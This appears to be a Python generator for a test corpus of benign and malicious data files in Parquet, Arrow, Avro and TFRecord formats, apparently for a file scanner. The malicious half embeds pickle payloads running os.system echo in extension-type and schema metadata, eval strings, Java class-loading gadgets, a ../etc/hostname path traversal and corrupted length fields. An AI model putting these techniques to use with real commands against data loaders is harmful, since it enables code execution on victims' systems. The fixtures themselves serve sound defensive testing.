"""Writes malicious/ and benign/ of tables in binary files anew.

Needs: pyarrow==26.0.1 pandas==3.1.1 numpy==2.4.6 tensorflow-cpu==2.21.0
Payloads echo a word or name a file that does not exist.
"""
import base64
import datetime
import decimal
import json
import os
import pathlib
import pickle
import shutil
import struct
import uuid

import numpy
import pandas
import pyarrow as pa
import pyarrow.feather
import pyarrow.orc
import pyarrow.parquet as pq

HERE = pathlib.Path(__file__).resolve().parent
GOOD = HERE / "benign"
BAD = HERE / "malicious"
for folder in (GOOD, BAD):
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()


class Echo:
    def __reduce__(self):
        return os.system, ("echo surety-corpus",)


PICKLE = pickle.dumps(Echo(), 4)


def stream(table, **options):
    sink = pa.BufferOutputStream()
    with pa.ipc.new_stream(sink, table.schema, options=pa.ipc.IpcWriteOptions(**options)) as writer:
        writer.write_table(table)
    return sink.getvalue().to_pybytes()


def file(table, **options):
    sink = pa.BufferOutputStream()
    with pa.ipc.new_file(sink, table.schema, options=pa.ipc.IpcWriteOptions(**options)) as writer:
        writer.write_table(table, max_chunksize=3)
    return sink.getvalue().to_pybytes()


def number(value):
    value = value << 1 if value >= 0 else (-value << 1) - 1
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


plain = pa.table({"text": ["a", "b", None, "d"], "label": [0, 1, 0, 1], "score": [0.1, 0.2, None, 0.4]})
nested = pa.table({
    "tokens": pa.array([[1, 2], [], None, [3]], pa.list_(pa.int32())),
    "entity": pa.array([{"name": "x", "span": {"a": 1}}, None, {"name": "y", "span": {"a": 2}}, None]),
    "tags": pa.array([[("k", 1)], [], None, [("l", 2)]], pa.map_(pa.string(), pa.int64())),
    "vector": pa.array([[0.0] * 3] * 4, pa.list_(pa.float32(), 3)),
})
types = pa.table({
    "flag": [True, None], "tiny": pa.array([1, 2], pa.int8()), "half": pa.array(numpy.array([1, 2], numpy.float16)),
    "when": pa.array([datetime.datetime(2026, 1, 1)] * 2, pa.timestamp("us", "UTC")), "day": [datetime.date(2026, 1, 1)] * 2,
    "money": [decimal.Decimal("1.20")] * 2, "raw": [b"\0\1", b""], "fixed": pa.array([b"abcd"] * 2, pa.binary(4)),
    "large": pa.array(["x", "y"], pa.large_string()), "wait": pa.array([1, 2], pa.duration("s")), "nothing": pa.nulls(2),
    "kind": pa.array(["a", "b"]).dictionary_encode(),
})
extension = pa.table({"id": pa.ExtensionArray.from_storage(pa.uuid(), pa.array([uuid.UUID(int=1).bytes] * 2, pa.binary(16))),
                      "grid": pa.ExtensionArray.from_storage(pa.fixed_shape_tensor(pa.int32(), [2]), pa.array([[1, 2], [3, 4]], pa.list_(pa.int32(), 2)))})
frame = pandas.DataFrame({"text": ["a", "b"], "kind": pandas.Categorical(["x", "y"]), "when": pandas.date_range("2026-01-01", periods=2)}, index=[5, 7])
features = {"info": {"features": {"text": {"dtype": "string", "_type": "Value"}, "label": {"names": ["no", "yes"], "_type": "ClassLabel"}}}}
hugging = plain.replace_schema_metadata({"huggingface": json.dumps(features)})
for name, table in {"plain": plain, "nested": nested, "extension": extension, "hugging_face": hugging, "pandas": pa.Table.from_pandas(frame)}.items():
    pq.write_table(table, GOOD / f"{name}.parquet")
    (GOOD / f"{name}.arrow").write_bytes(file(table))
    (GOOD / f"{name}_stream.arrow").write_bytes(stream(table))
pq.write_table(types.drop(["half", "wait"]), GOOD / "types.parquet")
for name, options in {"none": {"compression": "none"}, "zstd": {"compression": "zstd"}, "gzip": {"compression": "gzip"}, "brotli": {"compression": "brotli"},
                      "v1": {"version": "1.0"}, "page_v2": {"data_page_version": "2.0"}, "no_dictionary": {"use_dictionary": False},
                      "no_schema": {"store_schema": False}, "groups": {"row_group_size": 1}, "page_index": {"write_page_index": True},
                      "checksums": {"write_page_checksum": True}, "split": {"column_encoding": {"score": "BYTE_STREAM_SPLIT"}, "use_dictionary": False}}.items():
    pq.write_table(plain, GOOD / f"option_{name}.parquet", **options)
frame.to_parquet(GOOD / "to_parquet.parquet")
frame.reset_index().to_feather(GOOD / "to_feather.feather")
pq.write_table(plain.slice(0, 0), GOOD / "no_rows.parquet")
collected = []
pq.write_table(plain, GOOD / "part.parquet", metadata_collector=collected)
collected[0].set_file_path("part.parquet")
pq.write_metadata(plain.schema, GOOD / "_metadata", metadata_collector=collected)
(GOOD / "types.arrow").write_bytes(file(types))
(GOOD / "types_lz4.arrow").write_bytes(file(plain, compression="lz4"))
(GOOD / "types_zstd_stream.arrows").write_bytes(stream(plain, compression="zstd"))
(GOOD / "v4_stream.arrow").write_bytes(stream(plain, metadata_version=pa.ipc.MetadataVersion.V4))
(GOOD / "legacy_stream.arrow").write_bytes(stream(plain, use_legacy_format=True))
(GOOD / "dictionary_delta.arrow").write_bytes(file(pa.table({"k": pa.chunked_array([pa.array(["a"]).dictionary_encode(), pa.array(["a"]).dictionary_encode()])}), emit_dictionary_deltas=True))
pa.feather.write_feather(plain, str(GOOD / "v2.feather"))
pa.feather.write_feather(plain, str(GOOD / "v2_zstd.feather"), compression="zstd")
pa.feather.write_feather(plain, str(GOOD / "v1.feather"), version=1)
pa.orc.write_table(plain, str(GOOD / "plain.orc"))
pa.orc.write_table(plain, str(GOOD / "two_stripes.orc"), compression="uncompressed")


def avro(schema, codec=b"null", data=b"\x02a", more=b""):
    text = schema if isinstance(schema, bytes) else json.dumps(schema).encode()
    pairs = [(b"avro.schema", text), (b"avro.codec", codec)]
    out = b"Obj\x01" + number(len(pairs)) + b"".join(number(len(k)) + k + number(len(v)) + v for k, v in pairs) + b"\0" + b"S" * 16
    return out + number(1) + number(len(data)) + data + b"S" * 16 + more


record = {"type": "record", "name": "Row", "fields": [{"name": "text", "type": "string"}]}
(GOOD / "row.avro").write_bytes(avro(record))
(GOOD / "row_java_string.avro").write_bytes(avro({**record, "fields": [{"name": "text", "type": {"type": "string", "avro.java.string": "String"}}]}))
(GOOD / "row_decimal.avro").write_bytes(avro({**record, "fields": [{"name": "text", "type": {"type": "string", "java-class": "java.math.BigDecimal"}}]}))

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
import tensorflow  # noqa: E402  (slow, and only for this)

with tensorflow.io.TFRecordWriter(str(GOOD / "examples.tfrecord")) as writer:
    for word in (b"one", b"two"):
        writer.write(tensorflow.train.Example(features=tensorflow.train.Features(feature={"w": tensorflow.train.Feature(bytes_list=tensorflow.train.BytesList(value=[word]))})).SerializeToString())
records = (GOOD / "examples.tfrecord").read_bytes()


# ---- attacks
def typed(name, metadata, inner=pa.int64()):
    return pa.schema([pa.field("x", inner, metadata={"ARROW:extension:name": name, "ARROW:extension:metadata": metadata})])


python_type = pa.table({"x": [1, 2]}).cast(typed("arrow.py_extension_type", PICKLE))
old_protocol = pa.table({"x": [1, 2]}).cast(typed("arrow.py_extension_type", pickle.dumps(Echo(), 0)))
hidden_name = pa.table({"x": [1, 2]}).cast(typed("vendor.tensor", PICKLE))
deep = pa.table({"outer": pa.array([{"x": 1}]).cast(pa.struct([typed("arrow.py_extension_type", PICKLE).field(0)]))})
ray = pa.table({"x": [b"\x80\x04."]}).cast(typed("ray.data.arrow_pickled_object", b"", pa.binary()))
schema_pickle = plain.replace_schema_metadata({"model": PICKLE})
schema_python = plain.replace_schema_metadata({"hook": "__import__('os').system('echo surety')"})
schema_base64 = plain.replace_schema_metadata({"state": base64.b64encode(PICKLE)})
spark_class = plain.replace_schema_metadata({"org.apache.spark.sql.parquet.row.metadata": json.dumps({"type": "struct", "fields": [{"name": "x", "type": {"type": "udt", "pyClass": "surety_missing.Evil", "sqlType": "long"}}]})})
spark_pickle = plain.replace_schema_metadata({"org.apache.spark.sql.parquet.row.metadata": json.dumps({"type": "struct", "fields": [{"name": "x", "type": {"type": "udt", "pyClass": "__main__.Evil", "serializedClass": base64.b64encode(PICKLE).decode(), "sqlType": "long"}}]})})
column_python = pa.table({"x": [1, 2]}).cast(pa.schema([pa.field("x", pa.int64(), metadata={"converter": "eval(compile('1','','eval'))"})]))
for name, table in {"python_type": python_type, "python_type_protocol_0": old_protocol, "python_type_other_name": hidden_name, "python_type_nested": deep,
                    "ray_objects": ray, "schema_pickle": schema_pickle, "schema_python": schema_python, "schema_base64": schema_base64,
                    "spark_class": spark_class, "spark_pickle": spark_pickle, "column_python": column_python}.items():
    pq.write_table(table, BAD / f"{name}.parquet")
    if name in ("python_type", "python_type_nested", "python_type_other_name", "schema_pickle"):
        (BAD / f"{name}.arrow").write_bytes(file(table))
        (BAD / f"{name}_stream.arrow").write_bytes(stream(table))
pa.feather.write_feather(python_type, str(BAD / "python_type.feather"))
(BAD / "python_type_renamed.bin").write_bytes(stream(python_type))

good = (GOOD / "plain.parquet").read_bytes()
length = struct.unpack("<I", good[-8:-4])[0]
(BAD / "footer_longer_than_file.parquet").write_bytes(good[:-8] + struct.pack("<I", 0x7FFFFFFF) + b"PAR1")
(BAD / "footer_shorter.parquet").write_bytes(good[:-8] + struct.pack("<I", length // 2) + b"PAR1")
(BAD / "footer_of_lists.parquet").write_bytes(b"PAR1" + b"\x15\x04\x19\xfc\xff\xff\xff\xff\x7f" + struct.pack("<I", 9) + b"PAR1")
(BAD / "footer_deep.parquet").write_bytes(b"PAR1" + b"\xdc" * 4000 + struct.pack("<I", 4000) + b"PAR1")
pq.write_table(plain, BAD / "made.parquet", use_dictionary=False, compression="none", write_statistics=False, store_schema=False)
content = (BAD / "made.parquet").read_bytes()
(BAD / "made.parquet").unlink()
foot = len(content) - 8 - struct.unpack("<I", content[-8:-4])[0]
# The first column's chunk begins at byte 4: field 9 of its metadata is `26 08`, two numbers behind field 7.
place = content.index(b"\x26\x08", foot)
footer = content[foot:place] + b"\x26" + number(1 << 30) + content[place + 2:-8]
(BAD / "column_outside.parquet").write_bytes(content[:foot] + footer + struct.pack("<I", len(footer)) + b"PAR1")
(BAD / "broken_off.parquet").write_bytes(good[:-30])
collected[0].set_file_path("../../../../etc/hostname")
pq.write_metadata(plain.schema, BAD / "_metadata", metadata_collector=collected)
pq.write_metadata(plain.schema, BAD / "column_in_other_file.parquet", metadata_collector=collected)

arrow = (GOOD / "plain.arrow").read_bytes()
(BAD / "footer_length.arrow").write_bytes(arrow[:-10] + struct.pack("<i", 0x7FFFFFF0) + b"ARROW1")
(BAD / "broken_off.arrow").write_bytes(arrow[:-100])
foot = struct.unpack("<i", arrow[-10:-6])[0]
(BAD / "footer_root.arrow").write_bytes(arrow[:-10 - foot] + struct.pack("<I", 0x7FFFFFFF) + arrow[-10 - foot + 4:])
moving = (GOOD / "plain_stream.arrow").read_bytes()
(BAD / "message_length.arrow").write_bytes(moving[:4] + struct.pack("<I", 0x7FFFFFF0) + moving[8:])
body = moving.index(b"\xff\xff\xff\xff", 8)
meta = bytearray(moving)
size = struct.unpack("<I", moving[body + 4:body + 8])[0]
for at in range(body + 8, body + 8 + size - 8, 8):  # the first buffer that has a length
    if struct.unpack("<qq", moving[at:at + 16]) == (0, 1):
        meta[at:at + 16] = struct.pack("<qq", 0, 1 << 40)
        break
(BAD / "buffer_outside.arrow").write_bytes(bytes(meta))
(BAD / "class_loaded.avro").write_bytes(avro({**record, "fields": [{"name": "t", "type": {"type": "string", "java-class": "org.springframework.context.support.ClassPathXmlApplicationContext"}}]}))
(BAD / "class_process.avro").write_bytes(avro({**record, "fields": [{"name": "t", "type": {"type": "string", "java-class": "java.lang.ProcessBuilder"}}]}))
(BAD / "schema_python.avro").write_bytes(avro({**record, "doc": "eval(__import__('os').system('echo surety'))"}))
(BAD / "block_huge.avro").write_bytes(avro(record)[:-18] + number(1 << 60) + b"a")
(BAD / "metadata_huge.avro").write_bytes(b"Obj\x01" + number(1 << 40) + b"\x02a\x02b")
(BAD / "length_outside.tfrecord").write_bytes(records[:-20])
(BAD / "sum_wrong.tfrecord").write_bytes(records + struct.pack("<QI", 1 << 60, 5))
